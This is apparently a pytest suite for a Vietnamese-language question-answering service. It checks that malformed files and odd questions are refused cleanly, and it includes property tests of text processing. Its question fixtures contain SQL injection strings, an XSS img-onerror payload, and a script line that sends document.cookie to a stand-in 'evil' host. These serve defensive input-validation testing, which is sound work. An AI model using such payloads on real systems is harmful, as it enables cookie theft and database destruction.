"""Guarantee 5: bad input anywhere gets a clear answer.

Files: empty, blank, binary, eleven non-UTF-8 encodings (the reason names the one
detected), over the size limit (a 10 GB sparse file is refused after reading at most the limit),
not a regular file, and a folder of thousands of files of which some are bad: the
good ones go in, every bad one is listed with its reason.

Questions: empty, 2001 characters, control characters, only punctuation, emoji,
Chinese, Arabic, SQL / HTML / script injection: through the service, the CLI and
HTTP, a 4xx or an honest abstention, never an error, never a change to the index.

Property-based (hypothesis), for arbitrary Unicode: folding, sentence splitting,
cleaning and chunking never raise and never lose body text, and every offset
slices the raw text. Bounded example counts here; `long` runs thousands.
"""

from __future__ import annotations

import json
import os
import random
import unicodedata
from pathlib import Path

import pytest
from text_support import cp1258 as _cp1258
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from qa.chunking import chunk_document, estimate_tokens
from qa.cleaning import is_blank_char
from qa.cli import app
from qa.config import Settings
from qa.decoding import decode_file
from qa.documents import parse_document
from qa.errors import BadInputFile, InvalidQuestion
from qa.ingest import IngestReport, SourceText, Writer, collect_sources
from qa.limits import question_problem
from qa.pipeline import Pipeline
from qa.service import QAService
from qa.text import ZERO_WIDTH, fold, split_sentences, words
from reliability_support import SEEDS, article, check_invariants, fingerprint
from server.app import create_app

# ------------------------------------------------------------------ files
VI = "Việt Nam là một quốc gia ở Đông Nam Á. Thủ đô là Hà Nội, thành phố lớn nhất là Thành phố Hồ Chí Minh.\n" * 3
ZH = "中华人民共和国是位于东亚的社会主义国家，首都是北京。\n" * 3
JA = "日本は東アジアに位置する島国で、首都は東京です。\n" * 3
KO = "대한민국은 동아시아의 한반도 남부에 위치한 국가이다.\n" * 3
FR = "Le café est très apprécié en France, où l'on boit beaucoup de thé également.\n" * 3
RU = "Россия - государство в Восточной Европе и Северной Азии.\n" * 3
ZH_TW = "臺灣是位於東亞的島嶼，首都是臺北。\n" * 3




BAD_FILES: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "empty file"),
    "blank": (b" \n\t\r\n \xe2\x80\x8b\n", "empty file"),
    "bom-only": (b"\xef\xbb\xbf", "empty file"),
    "png": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "a PNG image, not text"),
    "elf": (b"\x7fELF\x02\x01\x01\x00" + bytes(200), "a program, not text"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n", "a PDF document, not text"),
    "random": (bytes((i * 167 + 13) % 255 + 1 for i in range(2000)), "binary file (control bytes"),  # no NUL
    "utf-16": (VI.encode("utf-16"), "utf-16-le"),
    "utf-16-be-no-bom": (VI.encode("utf-16-be"), "utf-16-be"),
    "utf-32": (VI.encode("utf-32"), "utf-32-le"),
    "cp1258": (_cp1258(VI), "cp1258"),
    "latin-1": (FR.encode("latin-1"), "latin-1"),
    "cp1251": (RU.encode("cp1251"), "cp1251"),
    "koi8-r": (RU.encode("koi8_r"), "koi8-r"),
    "gb18030": (ZH.encode("gb18030"), "gb18030"),
    "big5": (ZH_TW.encode("big5"), "big5"),
    "shift_jis": (JA.encode("shift_jis"), "shift_jis"),
    "euc-kr": (KO.encode("euc_kr"), "euc-kr"),
    "damaged-utf8": (VI.encode()[:50] + b"\xff\xfe" + VI.encode(), "damaged UTF-8"),
}


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_bad_file_is_refused_with_its_reason(tmp_path: Path, name: str) -> None:
    data, reason = BAD_FILES[name]
    path = tmp_path / f"{name}.txt"
    path.write_bytes(data)
    with pytest.raises(BadInputFile) as info:
        decode_file(path, 5_000_000)
    assert reason in info.value.reason and str(path) in str(info.value), info.value.reason
    if "not UTF-8" in info.value.reason:
        assert "not UTF-8 (looks like" in info.value.reason


def test_file_over_the_limit_is_refused_without_reading_it_all(tmp_path: Path) -> None:
    huge = tmp_path / "huge.txt"
    with open(huge, "wb") as fh:  # sparse: 10 GB on paper, nothing on disk
        fh.truncate(10_000_000_000)
    with pytest.raises(BadInputFile, match=r"too large \(10000000000 bytes > limit 5000000\)"):
        decode_file(huge, 5_000_000)
    small_limit = tmp_path / "big.txt"
    small_limit.write_text(VI * 100, encoding="utf-8")
    with pytest.raises(BadInputFile, match="too large"):
        decode_file(small_limit, 1000)


def test_something_that_is_not_a_regular_file(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)  # opening it would block forever
    report = IngestReport()
    assert collect_sources([fifo], 5_000_000, report) == []
    assert report.errors == [{"path": str(fifo), "reason": "not a regular file (a device, pipe or socket?)"}]

    # inside a folder too: reported, never silently left out (and never opened)
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "good.txt").write_text("Tin tốt\n\nNội dung tin tốt.", encoding="utf-8")
    os.mkfifo(folder / "pipe.txt")
    (folder / "gone.txt").symlink_to(tmp_path / "nowhere.txt")
    report = IngestReport()
    assert [s.doc_id for s in collect_sources([folder], 5_000_000, report)] == ["good"]
    assert report.errors == [{"path": str(folder / "gone.txt"), "reason": "a link to nothing"},
                             {"path": str(folder / "pipe.txt"), "reason": "not a regular file (a device, pipe or socket?)"}]


@pytest.mark.parametrize("files", [pytest.param(1500, id="1500-files"),
                                   pytest.param(10000, id="10000-files", marks=pytest.mark.long)])
def test_folder_of_thousands_of_files_some_bad(tmp_path: Path, files: int, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "inbox"
    rng = random.Random(files)
    bad: dict[str, str] = {}
    good: set[str] = set()
    kinds = list(BAD_FILES)
    for i in range(files):
        sub = folder / f"part-{i % 7}" / ("deeper" if i % 3 == 0 else "")
        sub.mkdir(parents=True, exist_ok=True)
        if i % 10 == 3:  # one in ten is bad, of every kind in turn
            kind = kinds[(i // 10) % len(kinds)]
            data, reason = BAD_FILES[kind]
            (sub / f"bad-{i}.txt").write_bytes(data)
            bad[f"bad-{i}"] = reason
        else:
            (sub / f"doc-{i}.txt").write_text(article(rng, i, paragraphs=1), encoding="utf-8")
            good.add(f"doc-{i}")
    (folder / "notes.md").write_text("# not an article\n")
    (folder / "part-2" / "doc-1.txt").write_text("Một bài trùng tên\nNội dung khác.\n", encoding="utf-8")
    (folder / "part-2" / "huge.txt").write_bytes(b"x" * 3000)
    monkeypatch.setenv("QA_MAX_FILE_BYTES", "2500")

    result = CliRunner().invoke(app, ["ingest", str(folder), "--json"])
    assert result.exit_code == 1, result.output  # some files were rejected
    report = json.loads(result.stdout)
    reasons = {Path(e["path"]).stem: e["reason"] for e in report["errors"]}
    for stem, reason in bad.items():
        assert reason in reasons.pop(stem), (stem, reason)
    assert "too large (3000 bytes > limit 2500)" in reasons.pop("huge")
    assert "duplicate document id 'doc-1'" in reasons.pop("doc-1")
    assert reasons == {}, reasons
    assert report["documents_added"] == len(good)
    assert any("notes.md" in note for note in report["notices"])
    summary = check_invariants(Path(os.environ["QA_DATA_DIR"]))
    assert summary["documents"] == len(good)
    errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert len(errors) == len(bad) + 2  # one line per rejected file, on stderr


# ------------------------------------------------------------------ questions
QUESTIONS = {
    "empty": "",
    "blank": "   \t\n ",
    "2001-chars": "Ai đã gặp nhau tại Rome? " * 80 + "x",
    "control-chars": "\x00\x01\x07\x1b[31mRome\x1b[0m\x7f\u200b\u202e",
    "only-punctuation": "?!.,;:…—–-()[]{}«»“”",
    "emoji": "😀🇻🇳👍🏽 🎉🎉",
    "chinese": "习近平和拜登在哪里见面？",
    "arabic": "أين التقى المسؤولون الأمريكيون والصينيون؟",
    "sql-injection": "'; DROP TABLE documents; -- ",
    "sql-union": "\" OR 1=1 UNION SELECT raw FROM documents --",
    "html": "<img src=x onerror=alert(1)><b>Rome</b>",
    "script": "<script>fetch('//evil/'+document.cookie)</script>",
    "fts-syntax": "Rome* AND NEAR(\"gặp\") OR title:x",
    "lone-surrogate": "Rome \ud800 gặp",
    "very-long-word": "a" * 1999,
}
# what a shell passes for bytes that are not UTF-8 is a lone surrogate
INVALID = {"empty": "the question is empty", "blank": "the question is empty",
           "2001-chars": "the question is 2001 characters long; at most 2000",
           "lone-surrogate": "the question is not valid UTF-8"}
NONSENSE = {"control-chars", "only-punctuation", "emoji", "chinese", "arabic", "sql-injection",
            "sql-union", "script", "very-long-word"}


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data = tmp_path_factory.mktemp("questions") / "data"
    report = IngestReport()
    Writer(data, Pipeline(Settings(data_dir=data), None)).ingest(collect_sources([SEEDS], 5_000_000, report))
    return data


@pytest.mark.parametrize("name", list(QUESTIONS))
def test_odd_question_gets_a_4xx_or_an_honest_answer(seeded: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    question = QUESTIONS[name]
    before = fingerprint(seeded)
    monkeypatch.setenv("QA_DATA_DIR", str(seeded))
    service = QAService(Settings(), warn=lambda line: None)
    if name in INVALID:  # refused the same way by every entry point (qa.limits)
        with pytest.raises(InvalidQuestion):
            service.ask(question)
    else:
        answer = service.ask(question)
        snap = service.snapshot()
        for p in answer.passages:
            assert snap.raws[p.doc_id][p.start : p.end] == p.text
        if name in NONSENSE:
            assert answer.abstained and answer.answer is None, (name, answer.answer)

    cli = CliRunner().invoke(app, ["ask", question, "--json"])
    assert cli.exception is None or isinstance(cli.exception, SystemExit), cli.exception
    if name in INVALID:  # a usage error, as HTTP's 422
        assert cli.exit_code == 2 and f"error: {INVALID[name]}" in cli.stderr, cli.output
    else:
        assert cli.exit_code == 0, cli.output
        assert json.loads(cli.stdout)["abstained"] == answer.abstained

    client = TestClient(create_app(Settings(rate_limit_per_minute=0, api_keys=[], admin_keys=[])),
                        raise_server_exceptions=False)
    for route in ("/v1/ask", "/v1/search"):  # JSON \u escapes: a lone surrogate travels as one
        response = client.post(route, content=json.dumps({"question": question}),
                               headers={"content-type": "application/json"})
        assert response.status_code in (200, 422), (route, response.status_code, response.text)
        if response.status_code == 422:
            assert response.json()["error"]["param"] == "question", response.text
            assert name in INVALID, response.text
        elif route == "/v1/ask":
            assert response.json()["abstained"] == answer.abstained
    chat = client.post("/v1/chat/completions", content=json.dumps({"model": "qa", "messages": [
        {"role": "user", "content": question}]}), headers={"content-type": "application/json"})
    assert chat.status_code in (200, 422), chat.text
    assert fingerprint(seeded) == before  # nothing a question says changes the index


# ------------------------------------------------------------------ properties of the text pipeline
EXAMPLES = [pytest.param(150, id="150-examples"), pytest.param(5000, id="5000-examples", marks=pytest.mark.long)]
LINE_BREAKS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"
# arbitrary Unicode, plus the characters the pipeline treats specially, so that they meet often
SPECIAL = st.sampled_from(list(LINE_BREAKS) + list(" .!?…\"“”'’()-–—:") + ["\ufeff", "\u200b", "đ", "Đ", "\u0301",
                                                                           "\u0323", "Tin liên quan", "(Theo VnExpress)",
                                                                           "Thứ hai, 14/03/2024 08:00"])
TEXT = st.lists(st.one_of(st.text(min_size=1, max_size=12), SPECIAL), max_size=60).map("".join)


def _strip_marks(text: str) -> str:
    return "".join(ch for ch in unicodedata.normalize("NFD", text) if not unicodedata.combining(ch))


def _quick(examples: int):  # noqa: ANN202
    return settings(max_examples=examples, deadline=None, database=None, derandomize=True,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@pytest.mark.parametrize("examples", EXAMPLES)
def test_folding_never_raises_and_keeps_every_letter(examples: int) -> None:
    @_quick(examples)
    @given(TEXT)
    def check(text: str) -> None:
        folded = fold(text)
        assert fold(folded) == folded
        assert _strip_marks(folded) == _strip_marks(text.replace("đ", "d").replace("Đ", "D"))
        words(text)
        estimate_tokens(text)
    check()


@pytest.mark.parametrize("examples", EXAMPLES)
def test_sentences_cover_every_character(examples: int) -> None:
    @_quick(examples)
    @given(TEXT, st.integers(0, 1000))
    def check(text: str, offset: int) -> None:
        spans = split_sentences(text, offset)
        covered = set()
        last = offset
        for s in spans:
            assert last <= s.start < s.end <= offset + len(text)
            last = s.end
            covered.update(range(s.start - offset, s.end - offset))
        # every character but spaces and zero-width ones (those trimmed from a sentence's ends, as spaces are)
        assert all(i in covered for i, ch in enumerate(text) if not ch.isspace() and ch not in ZERO_WIDTH)
    check()


@pytest.mark.parametrize("examples", EXAMPLES)
def test_cleaning_and_chunking_never_raise_and_never_lose_body_text(examples: int) -> None:
    @_quick(examples)
    @given(TEXT, st.integers(8, 80), st.integers(0, 2))
    def check(raw: str, target: int, overlap: int) -> None:
        doc = parse_document(raw, "doc")
        # every visible character is either body (a kept paragraph) or dropped with a reason
        kept = [(p.start, p.end) for p in doc.paragraphs]
        dropped = [(d.start, d.end) for d in doc.dropped]
        where = [0] * len(raw)
        for spans, mark in ((kept, 1), (dropped, 2)):
            for start, end in spans:
                assert 0 <= start < end <= len(raw)
                for i in range(start, end):
                    assert where[i] in (0, mark), "a character is both kept and dropped"
                    where[i] = mark
        lost = [raw[i] for i, ch in enumerate(raw) if where[i] == 0 and not is_blank_char(ch)]
        assert not lost, f"characters neither kept nor dropped: {lost!r}"
        if kept:
            assert doc.title
        chunks = chunk_document(raw, kept, count=estimate_tokens, target=target, hard_max=target * 2, overlap=overlap)
        in_chunks = [False] * len(raw)
        for c in chunks:
            assert raw[c.start : c.end] == c.text and c.text.strip()
            assert any(s <= c.start and c.end <= e for s, e in _runs(raw, kept)), "a chunk crosses dropped text"
            assert estimate_tokens(c.text) <= target * 2 or len(c.text) == 1
            for i in range(c.start, c.end):
                in_chunks[i] = True
        missing = [raw[i] for s, e in kept for i in range(s, e)  # a zero-width character between sentences is a space
                   if not in_chunks[i] and not raw[i].isspace() and raw[i] not in ZERO_WIDTH]
        assert not missing, f"body text in no chunk: {missing!r}"
    check()


def _runs(raw: str, kept: list[tuple[int, int]]) -> list[tuple[int, int]]:
    """Spans of consecutive kept paragraphs with only whitespace between them (what a chunk may cover)."""
    runs: list[list[int]] = []
    for start, end in kept:
        if runs and raw[runs[-1][1] : start].strip() == "":
            runs[-1][1] = end
        else:
            runs.append([start, end])
    return [(s, e) for s, e in runs]


@pytest.mark.parametrize("examples", [pytest.param(25, id="25-examples"),
                                      pytest.param(500, id="500-examples", marks=pytest.mark.long)])
def test_any_text_ingests_and_answers(tmp_path_factory: pytest.TempPathFactory, examples: int) -> None:
    """End to end for arbitrary Unicode articles: stored, chunks slice the raw text, questions answered."""
    data = tmp_path_factory.mktemp("any-text") / "data"
    writer = Writer(data, Pipeline(Settings(data_dir=data), None))
    service = QAService(Settings(data_dir=data, mode="lexical"), warn=lambda line: None)
    counter = iter(range(10**9))

    @_quick(examples)
    @given(TEXT.filter(lambda t: any(not is_blank_char(ch) for ch in t)), TEXT)
    def check(raw: str, question: str) -> None:
        writer.ingest([SourceText(f"doc-{next(counter)}", raw)])
        check_invariants(data)
        if question_problem(question):  # empty or blank: refused as every entry point refuses it
            with pytest.raises(InvalidQuestion):
                service.ask(question)
            return
        answer = service.ask(question)
        for p in answer.passages:
            assert service.snapshot().raws[p.doc_id][p.start : p.end] == p.text
    check()


@pytest.mark.parametrize("page", [
    "<!DOCTYPE html>\n<html><head><script>var gia = '99.000 đồng';</script></head><body><p>Tin</p></body></html>",
    "\ufeff<!-- saved from url=(0040)https://vnexpress.net/ -->\n<HTML lang=vi>\n<body>Tin</body></HTML>",
])
def test_an_html_page_saved_as_txt_is_refused_with_its_reason(tmp_path: Path, page: str) -> None:
    """Indexed as it was, its title was "<!DOCTYPE html>" and a script's string answered a question at 1.00."""
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "trang.txt").write_text(page, encoding="utf-8")
    report = IngestReport()
    Writer(tmp_path / "data", Pipeline(Settings(), None)).ingest(collect_sources([folder], 10**6, report), report=report)
    assert report.documents_added == 0
    assert report.errors[0]["reason"].startswith("an HTML page, not an article's text")


@pytest.mark.parametrize(("text", "reason"), [
    ("<!---->" * 32 + "\nBão số 5 đổ bộ vào Quảng Ngãi chiều nay.\n", None),  # a pattern took minutes on this
    ("<!-- saved -->" * 3 + "<html><body>Tin</body></html>", "an HTML page"),
    ("\x01\x02\x03\n", "binary data, not text"),  # valid UTF-8 of control characters: a file or posted
    ("Bão số 5 đổ bộ vào Quảng Ngãi chiều nay. " * 1700 + "\x01\x02\x03\x04" * 100_000, "binary data, not text"),
    ("Tin\f\nTrang hai của bài báo, sau một ký tự sang trang.\n", None),  # a form feed is text's
])
def test_text_that_is_not_an_article_is_refused_however_it_comes(tmp_path: Path, text: str, reason: str | None) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "tin.txt").write_text(text, encoding="utf-8", newline="")
    for source in (collect_sources([folder], 10**6, IngestReport()), [SourceText("dang", text, upsert=True)]):
        report = IngestReport()
        Writer(tmp_path / "data", Pipeline(Settings(), None)).ingest(source, report=report)
        if reason is None:
            assert not report.errors, report.errors
        else:
            assert report.errors[0]["reason"].startswith(reason), report.errors
